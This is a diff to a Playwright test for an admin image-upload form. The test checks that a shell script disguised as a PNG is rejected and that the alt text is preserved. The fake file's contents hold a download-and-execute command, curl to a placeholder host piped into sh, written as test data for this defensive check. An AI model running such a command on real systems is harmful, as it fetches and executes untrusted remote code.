@@ -13,10 +13,10 @@ test('an editor uploads an image; a script named .png is refused and the alt tex
   await page.goto('/admin/media');
 
   await page.getByLabel('图片文件').setInputFiles({ name: 'photo.png', mimeType: 'image/png', buffer: Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n') });
-  await page.getByLabel('替代文字').fill('志愿者在社区广场为老人测量血压');
+  await page.locator('#field-alt').fill('志愿者在社区广场为老人测量血压');
   await page.getByRole('button', { name: '上传图片' }).click();
   await expect(page.locator('#field-file-error')).toContainText('只能上传 JPEG、PNG、WebP 或 GIF 图片');
-  await expect(page.getByLabel('替代文字')).toHaveValue('志愿者在社区广场为老人测量血压');
+  await expect(page.locator('#field-alt')).toHaveValue('志愿者在社区广场为老人测量血压');
 
   const png = await sharp({ create: { width: 1200, height: 800, channels: 3, background: '#b3161c' } }).png().toBuffer();
   await page.getByLabel('图片文件').setInputFiles({ name: 'volunteers.png', mimeType: 'image/png', buffer: png });
